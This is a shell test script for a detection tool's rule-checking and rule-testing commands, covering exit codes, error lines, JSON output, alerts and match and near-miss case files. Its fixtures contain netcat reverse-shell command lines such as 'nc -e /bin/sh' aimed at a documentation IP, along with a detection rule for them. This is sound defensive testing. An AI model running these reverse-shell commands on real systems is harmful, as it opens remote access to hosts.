#!/usr/bin/env bash
# immune rules check / immune rules test: counts and rejected rules with FILE:LINE: RULE-ID,
# alerts from events through the pipeline, case replay failures, unreadable event lines,
# exit codes (0 ok, 1 findings, 2 usage).
set -euo pipefail
immune=$1
src=$IMMUNE_SOURCE_DIR
rules=$src/rules/linux
fail() { echo "FAIL: $*" >&2; exit 1; }
tmp=$(mktemp -d)
trap 'rm -rf "$tmp"' EXIT

run() { set +e; timeout 60 "$@" >"$tmp/out" 2>"$tmp/err"; rc=$?; set -e; }

# a directory with one good rule, one rule naming a field its logsource lacks, one bad YAML
mkdir -p "$tmp/r/sub"
cat >"$tmp/r/good.yml" <<'Y'
title: Test rule
id: 00000000-0000-4000-8000-000000000001
logsource:
    product: linux
    category: process_creation
detection:
    selection:
        Image|endswith: '/nc'
        CommandLine|contains: ' -e '
    condition: selection
level: high
Y
cat >"$tmp/r/sub/wrongfield.yml" <<'Y'
title: Wrong field
id: 00000000-0000-4000-8000-000000000002
logsource:
    product: linux
    category: process_creation
detection:
    selection:
        TargetFilename: '/etc/passwd'
    condition: selection
level: high
Y
printf 'title: Broken\nid: x\ndetection: [\n' >"$tmp/r/sub/broken.yml"

run "$immune" rules check "$tmp/r"
[ $rc -eq 1 ] || fail "check with rejected rules: exit $rc"
grep -q "1 rules loaded, 2 rejected" "$tmp/out" || fail "check counts: $(cat "$tmp/out")"
grep -q "^$tmp/r/sub/wrongfield.yml:8: 00000000-0000-4000-8000-000000000002: field 'TargetFilename'" "$tmp/out" \
	|| fail "check error line: $(cat "$tmp/out")"
grep -q "^$tmp/r/sub/broken.yml:[0-9]*: -: invalid YAML" "$tmp/out" || fail "check YAML error: $(cat "$tmp/out")"
run "$immune" rules check "$tmp/r" --json
[ $rc -eq 1 ] || fail "check --json exit $rc"
python3 - "$tmp/out" <<'PY' || fail "check --json content"
import json, sys
d = json.load(open(sys.argv[1]))
assert d["schema"] == "immune.rules_check/v1" and d["loaded"] == 1 and d["rejected"] == 2, d
ids = sorted(str(e["rule_id"]) for e in d["errors"])
assert ids == ["00000000-0000-4000-8000-000000000002", "None"], ids
PY
run "$immune" rules check "$tmp/r/good.yml"
[ $rc -eq 0 ] || fail "check one good file: exit $rc"
run "$immune" rules check "$tmp/missing"
[ $rc -eq 2 ] || fail "check missing path: exit $rc"
grep -q "cannot read" "$tmp/err" || fail "missing path message: $(cat "$tmp/err")"

# usage errors
for args in "rules" "rules frobnicate" "rules check --events x" "rules test --events a --cases b" \
	"rules check a b" "rules test --bogus"; do
	run "$immune" $args
	[ $rc -eq 2 ] || fail "'$args': exit $rc"
done

# events through the pipeline: an alert line per alert; a bad line is reported and counted
cat "$src/tests/rules/proc_reverse_shell_netcat.match.jsonl" >"$tmp/ev.jsonl"
echo '{"not": "an event"}' >>"$tmp/ev.jsonl"
echo 'garbage' >>"$tmp/ev.jsonl"
run "$immune" rules test "$rules" --events "$tmp/ev.jsonl"
[ $rc -eq 1 ] || fail "events with bad lines: exit $rc"
grep -q "Netcat runs a program for a remote peer (1 evidence)" "$tmp/out" || fail "alert line: $(cat "$tmp/out")"
grep -q "^3 events, .* alerts, 2 unreadable lines" "$tmp/out" || fail "events summary: $(cat "$tmp/out")"
grep -q "ev.jsonl:4: not an OCSF event" "$tmp/err" || fail "bad line location: $(cat "$tmp/err")"
grep -q "ev.jsonl:5: not an OCSF event" "$tmp/err" || fail "bad line location: $(cat "$tmp/err")"

# standard input, JSON: a correlation alert with its group and evidence
set +e
"$immune" rules test "$rules" --json <"$src/tests/rules/corr_ssh_brute_force.match.jsonl" >"$tmp/out"
rc=$?
set -e
[ $rc -eq 0 ] || fail "stdin events: exit $rc"
python3 - "$tmp/out" <<'PY' || fail "test --json content"
import json, sys
d = json.load(open(sys.argv[1]))
assert d["schema"] == "immune.rules_test/v1" and d["events"] == 10 and d["bad_lines"] == 0, d
a = [x for x in d["alerts"] if x["title"] == "SSH brute force from one source"]
assert len(a) == 1 and a[0]["evidence"] == 10 and a[0]["group_key"] == "203.0.113.7", a
assert a[0]["source"] == "correlation" and a[0]["level"] == "high", a
# the failed logins feed the correlation and do not alert on their own
assert all(x["source"] == "correlation" for x in d["alerts"]), d["alerts"]
PY

# cases: a good rule with its cases passes; a swapped case, a missing case and a bad line fail
mkdir -p "$tmp/cases" "$tmp/one"
cp "$tmp/r/good.yml" "$tmp/one/good.yml"
nc() { printf '{"class_uid":1007,"activity_id":1,"time":1796000000000,"unmapped":{"kind":"process_exec"},"process":{"file":{"path":"%s"},"cmd_line":"%s"}}\n' "$1" "$2"; }
{ nc /usr/bin/nc "nc -e /bin/sh 203.0.113.9 4444"; nc /bin/nc "nc -l -p 1 -e /bin/bash"; } >"$tmp/match"
{ nc /usr/bin/nc "nc -zv 10.0.0.5 22"; nc /usr/bin/ncat "ncat -e /bin/sh 203.0.113.9 1"; } >"$tmp/nomatch"
cp "$tmp/match" "$tmp/cases/good.match.jsonl"
cp "$tmp/nomatch" "$tmp/cases/good.nomatch.jsonl"
run "$immune" rules test "$tmp/one" --cases "$tmp/cases"
[ $rc -eq 0 ] || fail "passing cases: exit $rc $(cat "$tmp/out")"
grep -q "^1 rules: 1 passed, 0 failed, 0 without cases$" "$tmp/out" || fail "cases summary: $(cat "$tmp/out")"

cp "$tmp/cases/good.match.jsonl" "$tmp/cases/good.nomatch.jsonl"
run "$immune" rules test "$tmp/one" --cases "$tmp/cases"
[ $rc -eq 1 ] || fail "near miss that alerts: exit $rc"
grep -q "^FAIL $tmp/cases/good.nomatch.jsonl:1: 00000000-0000-4000-8000-000000000001 (Test rule): alerted on a near miss" "$tmp/out" \
	|| fail "near miss failure line: $(cat "$tmp/out")"

# a match file where one event does not alert names that event's line
cat "$tmp/match" "$tmp/nomatch" >"$tmp/cases/good.match.jsonl"
cp "$tmp/nomatch" "$tmp/cases/good.nomatch.jsonl"
run "$immune" rules test "$tmp/one" --cases "$tmp/cases"
[ $rc -eq 1 ] || fail "silent match event: exit $rc"
grep -q "good.match.jsonl:3: .*: this event did not alert" "$tmp/out" || fail "silent event line: $(cat "$tmp/out")"

echo 'nonsense' >"$tmp/cases/good.match.jsonl"
rm "$tmp/cases/good.nomatch.jsonl"
run "$immune" rules test "$tmp/one" --cases "$tmp/cases" --json
[ $rc -eq 1 ] || fail "bad and missing cases: exit $rc"
grep -q "good.match.jsonl:1: not an OCSF event" "$tmp/err" || fail "bad case line: $(cat "$tmp/err")"
python3 - "$tmp/out" <<'PY' || fail "cases --json content"
import json, sys
d = json.load(open(sys.argv[1]))
assert d["schema"] == "immune.rules_cases/v1", d
assert (d["rules"], d["passed"], d["failed"], d["without_cases"], d["bad_lines"]) == (1, 0, 0, 1, 1), d
msgs = sorted(f["message"] for f in d["failures"])
assert msgs == ["no case file", "unreadable event lines"], msgs
PY
run "$immune" rules test "$tmp/one" --cases "$tmp/nodir"
[ $rc -eq 2 ] || fail "missing cases directory: exit $rc"
echo ok
